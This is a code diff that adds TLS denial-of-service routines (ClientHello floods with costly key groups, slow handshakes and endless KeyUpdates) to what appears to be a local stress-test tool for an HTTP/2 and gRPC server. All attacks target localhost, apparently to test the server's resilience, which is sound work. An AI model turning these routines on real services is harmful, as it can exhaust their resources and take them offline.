@@ -16,9 +16,11 @@ import select
 import socket
 import ssl
 import struct
+import subprocess
 import sys
 import time
 
+import hello
 import http2
 
 CHECK, WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
@@ -366,6 +368,58 @@ def handshake_storm(attack):
                     attack.ended += 1
 
 
+def hello_flood(attack):
+    """TLS 1.3 hellos of the dearest group, a MB of them a second on 150 connections, for answers or for none; only for a
+    port with TLS."""
+    data = hello.client_hello([hello.P384])
+    start, sent, open_ones = time.monotonic(), 0, []
+    while attack.goes_on():
+        while sent < (time.monotonic() - start) * 1e6 and len(open_ones) < 150:
+            connection = socket.socket()
+            open_ones.append(connection)
+            with contextlib.suppress(OSError):
+                connection.settimeout(1)
+                connection.connect(("127.0.0.1", attack.port))
+                connection.sendall(data)
+            attack.made += 1
+            sent += len(data)
+        # The older half is not waited for any longer.
+        if len(open_ones) == 150:
+            for connection in open_ones[:75]:
+                with contextlib.suppress(OSError):
+                    attack.ended += len(connection.recv(1, socket.MSG_DONTWAIT))
+                connection.close()
+            del open_ones[:75]
+        time.sleep(0.001)
+
+
+def slow_hellos(attack):
+    """Ten of them a second, each answered: TLS 1.3 with finite fields, and with the dearest group."""
+    while attack.goes_on():
+        for group in (hello.FFDHE8192, hello.P384):
+            attack.made += 1
+            with socket.create_connection(("127.0.0.1", attack.port), timeout=20) as connection:
+                connection.sendall(hello.client_hello([group]))
+                attack.ended += len(connection.recv(1))
+            time.sleep(0.1)
+
+
+def key_updates(attack):
+    """TLS 1.3 KeyUpdates without end, by way of openssl's client."""
+    command = ["openssl", "s_client", "-connect", f"127.0.0.1:{attack.port}", "-alpn", "h2", "-tls1_3"]
+    pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "stderr": subprocess.STDOUT}
+    while attack.goes_on():
+        attack.made += 1
+        with subprocess.Popen(command, text=True, **pipes) as process, contextlib.suppress(BrokenPipeError):
+            for line in process.stdout:
+                # A command is a line that is read by itself.
+                if "KEYUPDATE" in line or "Verify return code" in line:
+                    process.stdin.write("K\n")
+                    process.stdin.flush()
+        attack.ended += 1
+
+
+OF_TLS = [handshake_storm, hello_flood, slow_hellos, key_updates]
 ALL = [
     *(rapid_reset, made_you_reset, continuation_flood, ping_flood, settings_flood, empty_frame_flood),
     *(priority_flood, window_update_flood, unknown_frame_flood, zero_window, one_byte_window, unread_answers),
